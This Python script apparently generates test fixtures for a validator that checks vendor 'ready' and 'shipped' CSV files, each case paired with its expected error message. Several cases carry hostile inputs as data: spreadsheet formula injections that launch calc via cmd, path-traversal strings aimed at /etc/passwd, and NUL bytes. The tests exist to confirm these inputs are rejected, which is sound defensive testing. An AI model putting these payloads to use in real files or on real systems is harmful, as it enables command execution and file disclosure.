    recipe="# A header, a good row, 1,000,000 empty lines (skipped), a bad row: row numbers hold.\n"
    "text sku,available,warehouse,as_of\\nWID-100,6,3PL-EAST,2026-11-26\\n\n"
    "repeat 1000000 \\n\n"
    "text WID-200,x,3PL-EAST,2026-11-26\\n\n")

READY = (b"po_number,sku,quantity,carton_id,sscc,pallet_id,weight_kg,length_cm,width_cm,"
         b"height_cm,ready_date,ship_from\n")
good_ready = b"2XK4FDJ3,WID-100,6,C1,,P1,5.5,40,30,30,2026-11-28,WH1\n"
csv("ready_c01-formula-po-number",
    READY + b"\"=cmd|' /C calc'!A0\",WID-100,6,Z1,,,5.5,40,30,30,2026-11-28,WH1\n",
    ["{f}: row 2, column po_number: PO \"=cmd|' /C calc'!A0\" is unknown"])
csv("ready_c02-formula-quantity",
    READY + b"2XK4FDJ3,WID-100,=1+5,Z1,,,5.5,40,30,30,2026-11-28,WH1\n",
    ["{f}: row 2, column quantity: \"=1+5\" is not a whole number"])
csv("ready_c03-sscc-bad-check-digit",
    READY + b"2XK4FDJ3,WID-100,6,Z1,006141410000000013,,5.5,40,30,30,2026-11-28,WH1\n",
    ["{f}: row 2, column sscc: "])
csv("ready_c04-negative-weight",
    READY + b"2XK4FDJ3,WID-100,6,Z1,,,-5,40,30,30,2026-11-28,WH1\n",
    ["{f}: row 2, column weight_kg: \"-5\" must be above 0"])
csv("ready_c05-date-day-first",
    READY + b"2XK4FDJ3,WID-100,6,Z1,,,5.5,40,30,30,28/11/2026,WH1\n",
    ["{f}: row 2, column ready_date: \"28/11/2026\" is not a date YYYY-MM-DD"])
csv("ready_c06-embedded-newline-then-bad-row",
    READY + b"2XK4FDJ3,WID-100,3,\"Z\n1\",,,5.5,40,30,30,2026-11-28,WH1\n"
    b"2XK4FDJ3,WID-100,0,Z2,,,5.5,40,30,30,2026-11-28,WH1\n",
    ["{f}: row 4, column quantity: \"0\" must be above 0"])
csv("ready_c07-sku-not-on-po",
    READY + b"2XK4FDJ3,WID-S,6,Z1,,,5.5,40,30,30,2026-11-28,WH1\n",
    ["{f}: row 2, column sku: \"WID-S\" is not on PO 2XK4FDJ3"])
csv("ready_c08-more-than-accepted",
    READY + b"2XK4FDJ3,WID-100,600,Z1,,,5.5,40,30,30,2026-11-28,WH1\n",
    ["{f}: row 2, column quantity: 600 exceeds the "])
csv("ready_c09-missing-ship-from",
    READY.replace(b",ship_from", b"") + b"2XK4FDJ3,WID-100,6,Z1,,,5.5,40,30,30,2026-11-28\n",
    ["{f}: row 1, column ship_from: required column is missing from the header"])
csv("ready_c10-carton-weight-disagrees",
    READY + b"2XK4FDJ3,WID-100,3,Z1,,,5.5,40,30,30,2026-11-28,WH1\n"
    b"2XK4FDJ3,WID-200,6,Z1,,,7,40,30,30,2026-11-28,WH1\n",
    ["{f}: row 3, column weight_kg: "])
csv("ready_c11-ten-thousand-columns", None,
    ["{f}: row 2: has 10000 cells, the header has 12"],
    recipe="# A row of 10,000 cells under a 12-column header.\n"
    "text po_number,sku,quantity,carton_id,sscc,pallet_id,weight_kg,length_cm,width_cm,"
    "height_cm,ready_date,ship_from\\n2XK4FDJ3\n"
    "repeat 9999 ,\n"
    "text \\n\n")
csv("ready_c12-absolute-path-and-nul",
    READY + b"2XK4FDJ3,WID-100,6,/etc/passwd,,,5.5,40,30,30,2026-11-28,WH\x001\n",
    ["{f}: row 2: cell 12: contains the control character 0x00"])

SHIP = (b"shipment_id,po_number,sku,quantity,sscc,pallet_sscc,ship_date,carrier_scac,bol_number,"
        b"pro_number,tracking_number,estimated_delivery\n")
ok1 = b"AVD00000001,2XK4FDJ3,WID-100,6,006141410000000012,006141419000000015,2026-11-28,UPSN,BOL1001,PRO5001,,2026-12-02\n"
csv("shipped_c01-formula-quantity",
    SHIP + ok1.replace(b",6,", b",@SUM(1+9)*cmd|' /C calc'!A0,"),
    ["{f}: row 2, column quantity: \"@SUM(1+9)*cmd|' /C calc'!A0\" is not a whole number"])
csv("shipped_c02-unknown-shipment",
    SHIP + ok1.replace(b"AVD00000001", b"AVD99999999"),
    ["{f}: row 2, column shipment_id: \"AVD99999999\" is no shipment of ours"])
csv("shipped_c03-path-as-shipment-id",
    SHIP + ok1.replace(b"AVD00000001", b"../../../etc/passwd"),
    ["{f}: row 2, column shipment_id: \"../../../etc/passwd\" is no shipment of ours"])
csv("shipped_c04-carrier-not-routed",
    SHIP + ok1.replace(b",UPSN,", b",EVIL,"),
    ["{f}: row 2, column carrier_scac: carrier EVIL is not the carrier Amazon routed shipment "
     "AVD00000001 to (UPSN)"])
csv("shipped_c05-ship-date-invalid",
    SHIP + ok1.replace(b"2026-11-28", b"2026-02-30"),
    ["{f}: row 2, column ship_date: \"2026-02-30\" is not a date YYYY-MM-DD"])
csv("shipped_c06-sscc-bad-check-digit",
    SHIP + ok1.replace(b"006141410000000012", b"006141410000000013"),
    ["{f}: row 2, column sscc: "])
csv("shipped_c07-nul-in-po",
    SHIP + ok1.replace(b"2XK4FDJ3", b"2XK4\x00DJ3"),
    ["{f}: row 2: cell 2: contains the control character 0x00"])
csv("shipped_c08-lone-cr-line-ends",
    SHIP.replace(b"\n", b"\r") + ok1,
    ["{f}: row 1: cell 12: a carriage return without a line feed"])
csv("shipped_c09-bom-then-bom-again",
    b"\xef\xbb\xbf" + SHIP + b"\xef\xbb\xbf" + ok1,
    ["{f}: row 2: cell 1: a byte-order mark (U+FEFF) inside the file"])
csv("shipped_c10-quantity-over-accepted",
    SHIP + ok1.replace(b",6,", b",60,"),
    ["{f}: row 2, column quantity: 60 exceeds the "])


def main():
    with open(os.path.join(HERE, "EXPECTED.tsv"), "w") as out:
        out.write("# file\tjob\texit\treason (every ' && '-separated part is in the reason file)"
                  "\tanswer (X12: parts of the 997/TA1 sent for it; none: nothing sent)\n")
        for row in rows:
            out.write("\t".join(row) + "\n")
    x = sum(1 for r in rows if r[1] == "avedi-receive")
    print(f"{x} X12 and {len(rows) - x} CSV cases")


if __name__ == "__main__":
    main()
